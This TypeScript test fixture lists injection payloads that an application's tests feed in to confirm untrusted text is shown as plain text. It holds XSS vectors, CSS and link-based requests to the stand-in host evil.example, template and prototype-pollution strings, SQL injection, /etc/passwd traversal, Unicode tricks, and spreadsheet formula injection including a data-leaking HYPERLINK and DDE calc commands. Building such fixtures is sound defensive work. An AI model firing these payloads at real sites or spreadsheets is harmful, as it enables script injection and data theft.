/**
 * Texts that try to get out of a page, a file or a sheet. Whoever runs as code sets `window.__pwned`, opens a dialog or asks a server; the
 * tests look for all three. Each text must be shown as text, wherever it stands.
 */
const PWN = "window.__pwned=1";
const AWAY = "https://evil.example";

const MARKUP = [
  `<script>${PWN}</script>`,
  `<ScRiPt src=${AWAY}/x.js></sCrIpT>`,
  `<script type="module">import "${AWAY}/x.js"</script>`,
  `"><script>${PWN}</script>`,
  `'"></title></textarea></style></script><script>${PWN}</script>`,
  `</script><script>${PWN}</script>`,
  `</script\n><img src=x onerror=${PWN}>`,
  `<!-- <script> --><script>${PWN}</script>`,
  `<!--<script>`,
  `--><img src=x onerror=${PWN}><!--`,
  `<![CDATA[<script>${PWN}</script>]]>`,
  `]]><script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="${AWAY}/pixel.gif">`,
  `<img/src/onerror=${PWN}>`,
  `<body onload=${PWN}>`,
  `<details open ontoggle=${PWN}>x</details>`,
  `<input autofocus onfocus=${PWN}>`,
  `<video><source onerror=${PWN}></video>`,
  `<audio src=x onerror=${PWN}>`,
  `<marquee onstart=${PWN}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${PWN}>x</div>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="${AWAY}/x.swf"></object>`,
  `<embed src="${AWAY}/x.svg">`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<link rel="stylesheet" href="${AWAY}/x.css">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<form action="${AWAY}/"><button>Send</button></form>`,
  `<template><script>${PWN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<svg onload=${PWN}>`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin=${PWN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${PWN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${PWN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${PWN}">x</math>`,
  `<title>taken over</title>`,
];

const STYLES = [
  `<style>@import url("${AWAY}/x.css");</style>`,
  `<style>*{background:url(${AWAY}/x.png)}</style>`,
  `</style><script>${PWN}</script>`,
  `background:url("${AWAY}/x.png")`,
  `expression(${PWN})`,
  `}body{display:none}`,
  `red;background-image:url(${AWAY}/x.png)`,
  `url(javascript:${PWN})`,
];

const LINKS = [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}//`,
  ` javascript:${PWN}`,
  `java\tscript:${PWN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.__pwned=1</script>`,
  `[click me](javascript:${PWN})`,
  `![seen](${AWAY}/pixel.png)`,
  `<${AWAY}/autolink>`,
  `[x]: ${AWAY} "onload=alert(1)"`,
  `${AWAY}/?leak=1`,
  `//evil.example/x`,
  `file:///etc/passwd`,
  `#/overview"onclick="${PWN}`,
  `#/../../decision/%00`,
];

const CODE = [
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}}`,
  `<%= ${PWN}%>`,
  `#{${PWN}}`,
  `';${PWN}//`,
  `\\";${PWN}//`,
  `\u2028${PWN}\u2029`,
  `{"__proto__":{"polluted":1}}`,
  `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${PWN}>"}}}`,
  `'; DROP TABLE audits; --`,
  `../../../../etc/passwd`,
];

const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "length",
  "undefined",
  "null",
  "NaN",
  "0",
  "-1",
];

const CHARACTERS = [
  `\u202Egpj.exe\u202C innocent`,
  `\u2066\u202Ereversed\u2069`,
  `a\u200B\u200C\u200D\uFEFFb`,
  `Z\u0351\u0346\u034E${"\u0300\u0301\u0302\u0303\u0304".repeat(20)}algo`,
  `bell\u0007 back\u0008\u0008 escape\u001B`,
  `nul\u0000byte`,
  `\u001B[31mred\u001B[0m \u001B]0;title\u0007`,
  `\u001B]8;;${AWAY}\u0007click\u001B]8;;\u0007`,
  `lone \uD800 surrogate \uDFFF`,
  `\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{E0041}\u{E0042}`,
  `line\r\nfeed\u0085next\u000Bvertical\u000Cform`,
];

const FORMULAS = [
  `=HYPERLINK("${AWAY}?"&A1,"click")`,
  `=cmd|'/C calc'!A0`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `"=1+1"`,
];

export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...STYLES,
  ...LINKS,
  ...CODE,
  ...NAMES,
  ...CHARACTERS,
  ...FORMULAS,
  `${"long ".repeat(20_000)}<script>${PWN}</script>`,
];

/** What communities, rules and decisions may be called: all that is not too long for a name, and is text in UTF-8, as files are. */
export const NAME_PAYLOADS: readonly string[] = PAYLOADS.filter((text) => text.length < 1000 && text.isWellFormed());
